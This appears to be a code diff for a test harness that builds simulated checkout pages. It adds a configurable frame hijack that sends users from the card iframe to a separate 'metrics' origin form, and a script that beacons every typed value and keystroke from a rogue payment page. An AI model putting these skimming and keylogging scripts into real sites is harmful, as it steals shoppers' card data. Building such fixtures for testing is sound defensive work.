@@ -11,11 +11,18 @@ ${field('card_expiry', say.expiry, 'cc-exp', 7)}${field('card_cvc', say.cvc, 'cc
 }
 
 /** The provider's frame keeps the card and gives the shop a token. */
-export function providerFrame(say: Tongue['say']): string {
+export function providerFrame(say: Tongue['say'], shop: ShopCase): string {
+  const { frameTurns } = shop.rules;
+  const away = `location.href = '${shop.origin('metrics')}/form?focus=1'`;
+  const turns = {
+    focus: `document.querySelector('#card_number').addEventListener('focus', () => { ${away} });`,
+    input: `document.querySelector('#card_number').addEventListener('input', (e) => { if (e.target.value.length > 1) ${away} });`,
+    timer: `setTimeout(() => { ${away} }, 2500);`,
+  };
   return `<!doctype html><meta charset="utf-8"><title>Card</title><style>body{font:16px sans-serif;margin:0}label{display:block;margin:6px 0 2px}input{font:inherit;padding:5px;width:260px}</style>
 <form id="card">${cardFields(say)}</form><script>document.querySelector('#card').addEventListener('change', async (event) => {
 const body = new URLSearchParams(new FormData(event.currentTarget)); const answer = await fetch('/tokens', { method: 'POST', body });
-parent.postMessage({ token: await answer.text() }, '*'); });</script>`;
+parent.postMessage({ token: await answer.text() }, '*'); });${frameTurns ? turns[frameTurns] : ''}</script>`;
 }
 
 export function frameScript(shop: ShopCase): string {
@@ -27,5 +34,7 @@ export function frameScript(shop: ShopCase): string {
 export function strangersPage(say: Tongue['say']): string {
   return `<!doctype html><meta charset="utf-8"><title>Harbour Goods – ${say.payment}</title><style>label{display:block}input{width:260px}</style><header>Harbour Goods</header>
 <h1>${say.payment}</h1><form method="post" action="/pay">${cardFields(say)}<p><button type="submit">${say.place}</button></p></form>
-<script>addEventListener('keydown', (event) => navigator.sendBeacon('/key?k=' + encodeURIComponent(event.key)), true);</script>`;
+<script>if (location.search) document.querySelector('#card_number').focus();
+addEventListener('input', (event) => navigator.sendBeacon('/typed?v=' + encodeURIComponent(event.target.value)), true);
+addEventListener('keydown', (event) => navigator.sendBeacon('/key?k=' + encodeURIComponent(event.key)), true);</script>`;
 }
